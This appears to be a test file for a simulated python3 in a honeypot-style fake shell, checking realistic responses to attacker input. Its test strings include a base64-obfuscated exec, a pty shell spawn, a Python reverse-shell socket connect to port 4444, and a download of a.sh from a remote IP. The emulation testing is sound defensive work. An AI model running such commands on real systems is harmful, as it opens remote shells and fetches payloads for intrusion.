import { describe, expect, it } from 'vitest';
import { runCommand } from '../test-shell.ts';

function python(program: string, stdin = '') {
  return runCommand(`python3 -c '${program.replaceAll("'", "'\\''")}'`, { stdin });
}

describe('the imitated python3', () => {
  it('runs what an encoded program says', async () => {
    const encoded = Buffer.from('import os\nos.system("id -un")').toString('base64');
    const { stdout, exitCode } = await python(`import base64;exec(base64.b64decode("${encoded}"))`);
    expect({ stdout, exitCode }).toEqual({ stdout: 'root\n', exitCode: 0 });
  });

  it('gives a shell where a program spawns one on a pty', async () => {
    const { stdout } = await python('import pty; pty.spawn("/bin/bash")', 'echo inside\n');
    expect(stdout).toBe('inside\n');
  });

  it('refuses a reverse shell its connection with the traceback of the real one', async () => {
    const { stderr, exitCode } = await python(
      'import socket,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("127.0.0.1",4444))\nos.dup2(s.fileno(),0)',
    );
    expect({ stderr, exitCode }).toEqual({
      stderr:
        'Traceback (most recent call last):\n  File "<string>", line 3, in <module>\nConnectionRefusedError: [Errno 111] Connection refused\n',
      exitCode: 1,
    });
  });

  it('saves what a program downloads', async () => {
    const { stdout } = await runCommand(
      'cd /tmp; python3 -c \'import urllib.request as u; u.urlretrieve("http://198.51.100.9/a.sh", "a.sh")\'; head -1 a.sh',
    );
    expect(stdout).toBe('#!/bin/sh\n');
  });

  it('runs a script file with its arguments', async () => {
    const { stdout } = await runCommand(
      'printf "import sys\\nfor a in sys.argv[1:]:\\n    print(a.upper())\\n" > /tmp/s.py; python3 /tmp/s.py one two',
    );
    expect(stdout).toBe('ONE\nTWO\n');
  });

  it('has its files captured although it does not close them', async () => {
    const { written } = await runCommand(`python3 -c "open('/tmp/p', 'wb').write(b'\\x7fELF')"`);
    expect(written).toEqual([{ path: '/tmp/p', text: '\x7fELF' }]);
  });
});
